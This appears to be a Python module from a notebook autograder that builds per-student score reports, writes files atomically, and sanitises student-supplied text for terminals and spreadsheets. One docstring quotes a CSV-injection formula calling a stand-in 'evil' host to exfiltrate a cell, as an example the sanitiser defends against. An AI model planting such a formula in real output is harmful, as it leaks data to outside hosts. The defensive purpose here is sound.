"""One row per student: what the grader found, written so that a failure is never a silent 0.

Also the small atomic-file helpers the grader uses for its report and its resume state:
a file is written to a temporary name in the same folder and renamed over the target,
so a reader (or a run interrupted half-way) sees the old file or the new one, never half.
"""
from __future__ import annotations

import csv
import io
import json
import os
import tempfile
from contextlib import contextmanager
from dataclasses import asdict, dataclass, fields
from pathlib import Path
from typing import Iterator

GRADED = "graded"
LATE = "late"
TAMPERED = "tampered test cells (restored)"
MISSING = "missing notebook"
TIMEOUT = "timeout"
LIMIT = "resource limit"
KERNEL_DIED = "kernel died"
ERROR = "error"
#: Every status, mildest first. A student with several problems is shown with the worst one;
#: the detail column lists them all. Tampering ranks above a timeout or a resource limit: a
#: MemoryError a submission raises itself must not hide the test cell it edited.
STATUSES = (GRADED, LATE, MISSING, TIMEOUT, LIMIT, TAMPERED, KERNEL_DIED, ERROR)
#: The ``sandbox`` column: how the submission's code ran.
SANDBOXED = "bwrap"
UNSANDBOXED = "none (--unsandboxed)"


@dataclass
class StudentReport:
    """The outcome for one student: score out of max_score, a status from :data:`STATUSES`, and why."""

    student: str
    score: float
    max_score: float
    status: str
    detail: str = ""
    timestamp: str = ""
    seconds: float = 0.0
    sandbox: str = SANDBOXED
    auto_score: float = 0.0       # points of the test cells, decided by the grader
    auto_max: float = 0.0
    manual_score: float = 0.0     # points given by hand so far
    manual_max: float = 0.0
    manual_pending: float = 0.0   # points of the answers still to be graded by hand
    similarity: str = ""          # "conv2d: 92% like student bob; ...": the similarity report's flag, points unchanged

    def scores_from(self, score) -> "StudentReport":
        """Take the points of a :class:`~cnnkit.grading.nbgrader_glue.SubmissionScore`."""
        self.score, self.max_score = score.total, score.max_total
        self.auto_score, self.auto_max = score.auto, score.auto_max
        self.manual_score, self.manual_max, self.manual_pending = score.manual, score.manual_max, score.manual_pending
        return self

    def points_text(self) -> str:
        """``"26 / 26 auto, by hand 4 pending"`` or ``"26 / 26 auto, 3 / 4 by hand"``."""
        text = f"{self.auto_score:g} / {self.auto_max:g} auto"
        if self.manual_max:
            given = self.manual_max - self.manual_pending
            if self.manual_pending and not given:
                text += f", by hand {self.manual_pending:g} pending"
            elif self.manual_pending:
                text += f", {self.manual_score:g} / {given:g} by hand, {self.manual_pending:g} pending"
            else:
                text += f", {self.manual_score:g} / {self.manual_max:g} by hand"
        return text

    def __post_init__(self) -> None:
        if self.status not in STATUSES:
            raise ValueError(f"status must be one of {STATUSES}, got {self.status!r}")
        for name in ("student", "detail", "timestamp", "similarity"):
            setattr(self, name, printable(getattr(self, name)))


def printable(text: str) -> str:
    """``text`` with no control character: line breaks and tabs become spaces, any other (an escape code
    that clears the instructor's terminal, a bidirectional override) is written as ``\\xNN``.

    A row's text comes partly from the student (the names of the files they handed in, the errors they
    raised): the red team named folders so that ``cat grading_report_NAME.txt`` cleared the screen and
    drew a forged table.
    """
    if not isinstance(text, str):
        raise TypeError(f"text must be a str, got {type(text).__name__}")
    if text.isprintable():
        return text
    out = []
    for char in text:
        if char in "\n\r\t":
            out.append(" ")
        elif char.isprintable():
            out.append(char)
        else:
            out.append(char.encode("unicode_escape").decode("ascii"))
    return "".join(out)


def worst(statuses: list[str]) -> str:
    """The most serious status of a list (``graded`` for an empty list)."""
    return max(statuses, key=STATUSES.index, default=GRADED)


@contextmanager
def atomic_replace(path: str | os.PathLike) -> Iterator[Path]:
    """A temporary file next to ``path`` for the block to write; renamed over ``path`` if the block succeeds.

    The rename is atomic on one filesystem, so a reader sees the old file or the new one, never half;
    when the block raises, the temporary file is removed and ``path`` is left as it was.
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".tmp")
    os.close(fd)
    try:
        os.chmod(tmp, 0o666 & ~_umask())  # mkstemp makes 0600; give the usual permissions
        yield Path(tmp)
        os.replace(tmp, path)
    except BaseException:
        Path(tmp).unlink(missing_ok=True)
        raise


def atomic_write_text(path: str | os.PathLike, text: str) -> None:
    """Write ``text`` to ``path`` through a temporary file, flushed to disk, and a rename."""
    with atomic_replace(path) as tmp, open(tmp, "w", encoding="utf-8", newline="") as fh:
        fh.write(text)
        fh.flush()
        os.fsync(fh.fileno())


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


COLUMNS = [f.name for f in fields(StudentReport)]


#: A spreadsheet reads a cell starting with one of these as a formula (OWASP's "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    """A text cell a spreadsheet shows as text: one starting like a formula gets a leading apostrophe.

    The report's text comes partly from students (the timestamp they handed in, the names of their
    files, the errors their code raised): ``=HYPERLINK("http://evil/?"&A2)`` must not run in the
    instructor's spreadsheet. Numbers are left as they are.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _from_spreadsheet(value: str) -> str:
    return value[1:] if value.startswith("'") and value[1:].startswith(FORMULA_STARTS) else value


def reports_to_csv(reports: list[StudentReport]) -> str:
    """The reports as CSV text, one row per student, with a header (text cells :func:`spreadsheet_safe`)."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=COLUMNS, lineterminator="\n")
    writer.writeheader()
    for report in reports:
        writer.writerow({key: spreadsheet_safe(value) for key, value in asdict(report).items()})
    return buffer.getvalue()


def read_csv(path: str | os.PathLike) -> list[StudentReport]:
    """Read back a report written by :func:`reports_to_csv`."""
    with open(path, newline="", encoding="utf-8") as fh:
        rows = [{key: _from_spreadsheet(value or "") for key, value in row.items()} for row in csv.DictReader(fh)]
    numbers = ("auto_score", "auto_max", "manual_score", "manual_max", "manual_pending")
    return [StudentReport(student=r["student"], score=float(r["score"]), max_score=float(r["max_score"]),
                          status=r["status"], detail=r["detail"], timestamp=r["timestamp"],
                          seconds=float(r["seconds"]), sandbox=r.get("sandbox", SANDBOXED),
                          similarity=r.get("similarity") or "",
                          **{name: float(r.get(name) or 0.0) for name in numbers}) for r in rows]


def format_table(reports: list[StudentReport]) -> str:
    """A plain-text table for the terminal: student, score / max, status, detail, and a status count."""
    header = ("student", "points", "status", "detail")
    rows = [(r.student, r.points_text(), r.status,
             "; ".join(filter(None, [r.detail, r.similarity and f"similar to other code: {r.similarity}"])))
            for r in reports]
    widths = [max([len(header[i])] + [len(row[i]) for row in rows]) for i in range(3)]
    lines = ["  ".join(h.ljust(w) for h, w in zip(header[:3], widths)) + "  " + header[3]]
    lines.append("  ".join("-" * w for w in widths) + "  " + "-" * 6)
    for row in rows:
        lines.append("  ".join(cell.ljust(w) for cell, w in zip(row[:3], widths)) + "  " + row[3])
    counts = {s: sum(r.status == s for r in reports) for s in STATUSES}
    lines.append("")
    lines.append(", ".join(f"{n} {s}" for s, n in counts.items() if n) or "no students")
    return "\n".join(lines) + "\n"


def save_state(path: str | os.PathLike, report: StudentReport, **extra) -> None:
    """Record atomically that a student is done, so an interrupted run does not grade them again."""
    atomic_write_text(path, json.dumps({**asdict(report), **extra}, indent=1, sort_keys=True))


def load_state(path: str | os.PathLike) -> tuple[StudentReport, dict] | None:
    """The report and extra fields saved by :func:`save_state`, or None when absent or unreadable."""
    try:
        data = json.loads(Path(path).read_text(encoding="utf-8"))
        names = set(COLUMNS)
        report = StudentReport(**{k: v for k, v in data.items() if k in names})
    except (OSError, ValueError, TypeError):
        return None
    return report, {k: v for k, v in data.items() if k not in set(COLUMNS)}
